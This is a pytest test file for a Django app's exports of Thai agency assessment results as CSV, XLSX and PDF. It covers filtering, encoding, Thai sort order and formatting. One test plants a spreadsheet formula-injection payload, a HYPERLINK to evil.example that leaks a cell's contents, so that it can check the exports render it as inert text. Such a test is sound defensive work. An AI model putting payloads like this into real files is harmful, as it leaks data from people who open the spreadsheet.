import csv
import io
import subprocess

import pytest
from openpyxl import load_workbook

from itas.reports.exports import all_exports, get_export
from tests.reports.test_views import login


def test_exports_are_registered_in_one_place():
    ids = {e.identifier for e in all_exports()}
    assert {"agencies", "provinces"} <= ids
    for e in all_exports():
        assert str(e.name) and e.form_class and set(e.formats) <= {"csv", "xlsx", "pdf"}
    assert get_export("nope") is None


def test_failing_list_page_filters_and_links_to_a_target_group(client, results, world):
    r = client.get("/results/2567/agencies/?province=38&passed=0")
    assert r.status_code == 200
    names = [row["name"] for row in r.context["rows"]]
    assert sorted(names) == sorted(
        ["เทศบาลตำบลท่าสะอาด", "องค์การบริหารส่วนตำบลทดสอบบึงกาฬ2", "องค์การบริหารส่วนตำบลทดสอบบึงกาฬ3"]
    )
    assert [row["no"] for row in r.context["rows"]] == [1, 2, 3]
    assert all(row["passed"] is False for row in r.context["rows"])
    assert {row["district"] for row in r.context["rows"]} == {"อำเภอเมืองบึงกาฬ", "อำเภอพรเจริญ"}
    login(client, world.coordinator)
    body = client.get("/results/2567/agencies/?province=38&passed=0").content.decode()
    assert (
        "/events/target-groups/new/?source=results&amp;cycle=2567&amp;province=38&amp;passed=0"
        in body
    )


@pytest.mark.parametrize(
    "query",
    [
        "province=99",
        "passed=2",
        "kind=rocket",
        "district=9999",
        "group=999999",
        "region=mars",
        "province=50&district=3801",
        "page=99",
        "page=abc",
    ],
)
def test_bad_filters_are_400_or_404(client, results, query):
    r = client.get(f"/results/2567/agencies/?{query}")
    assert r.status_code in (400, 404)
    if not query.startswith("page"):
        assert client.get(f"/results/2567/exports/agencies.csv?{query}").status_code == 400


def test_unknown_export_or_format_is_404(client, results):
    assert client.get("/results/2567/exports/nothing.csv").status_code == 404
    assert client.get("/results/2567/exports/agencies.docx").status_code == 404
    assert client.get("/results/2567/exports/provinces.pdf").status_code == 404


def test_csv_streams_with_a_bom_and_thai_intact(client, results):
    r = client.get("/results/2567/exports/agencies.csv?province=38&passed=0")
    assert r.status_code == 200 and r.streaming
    raw = b"".join(r.streaming_content)
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 1 + 3
    assert "เทศบาลตำบลท่าสะอาด" in {row[2] for row in rows[1:]}
    assert rows[1][0] == "1"


def test_xlsx_opens_with_the_rows(client, results):
    r = client.get("/results/2567/exports/agencies.xlsx?passed=1")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(b"".join(r.streaming_content)))
    ws = wb.active
    values = list(ws.iter_rows(values_only=True))
    assert len(values) == 2 + 3  # title, header, three agencies that passed
    assert {v[5] for v in values[2:]} == {91.0, 96.0, 86.5}


def test_province_summary_csv(client, results):
    raw = b"".join(client.get("/results/2567/exports/provinces.csv").streaming_content)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    by_code = {r[0]: r for r in rows[1:]}
    assert by_code["38"][2:4] == ["5", "2"]
    assert by_code["50"][2:4] == ["1", "1"]


def test_letter_pdf_lists_the_agencies(client, results, tmp_path):
    r = client.get("/results/2567/exports/agencies.pdf?province=38&passed=0&digits=thai")
    assert r.status_code == 200 and r["Content-Type"] == "application/pdf"
    path = tmp_path / "list.pdf"
    path.write_bytes(r.content)
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True).stdout
    assert "บึงกาฬ" in text
    assert "๓" in text  # the count, in Thai digits
    assert "ท่าสะอาด" in text


def test_lists_follow_thai_dictionary_order_of_districts_as_the_letter_does(client, results, world):
    from itas.geo.models import District
    from tests.factories import AgencyFactory
    from tests.reports.factories import add_result

    seka = District.objects.get(province_id="38", name_th="เซกา")
    add_result(
        results.pub, AgencyFactory(name="ท่ากกแดง", province=world.province, district=seka), 50.0
    )
    rows = client.get("/results/2567/agencies/?province=38&passed=0").context["rows"]
    districts = list(dict.fromkeys(row["district"] for row in rows))
    # Code-point order would put every district written with a leading vowel (เ, โ) last.
    assert districts == ["อำเภอเซกา", "อำเภอพรเจริญ", "อำเภอเมืองบึงกาฬ"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_agency_name_that_looks_like_a_formula_is_exported_as_text(client, results, fmt):
    payload = '=HYPERLINK("https://evil.example/?d="&D2,"x")'
    agency = results.extra[3]  # the one that did not pass in Seka
    type(agency).objects.filter(pk=agency.pk).update(name=payload)
    r = client.get(f"/results/2567/exports/agencies.{fmt}?province=38&passed=0")
    raw = b"".join(r.streaming_content)
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for c in row]
    else:
        ws = load_workbook(io.BytesIO(raw)).active
        assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
        cells = [str(v) for row in ws.iter_rows(values_only=True) for v in row if v is not None]
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    # the name is exported (with its kind's prefix, which alone would not have made it safe)
    assert any(payload in c for c in cells)


def test_the_passed_column_says_passed_or_did_not_pass(client, results):
    raw = b"".join(client.get("/results/2567/exports/agencies.csv?province=38").streaming_content)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][7] == "ผ่าน"
    assert {r[7] for r in rows[1:]} == {"ผ่าน", "ไม่ผ่าน"}


def test_xlsx_has_column_widths_and_a_frozen_header(client, results):
    r = client.get("/results/2567/exports/agencies.xlsx?province=38")
    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
    assert ws.freeze_panes == "A3"  # the title and the header stay in view
    widths = {k: v.width for k, v in ws.column_dimensions.items()}
    assert widths["C"] > widths["A"] >= 6  # the agency name is the widest column


def test_pdf_variants_download_under_distinct_names(client, results):
    arabic = client.get("/results/2567/exports/agencies.pdf?province=38&passed=0")
    thai = client.get("/results/2567/exports/agencies.pdf?province=38&passed=0&digits=thai")
    names = {arabic["Content-Disposition"], thai["Content-Disposition"]}
    assert len(names) == 2 and "thai-digits" in thai["Content-Disposition"]
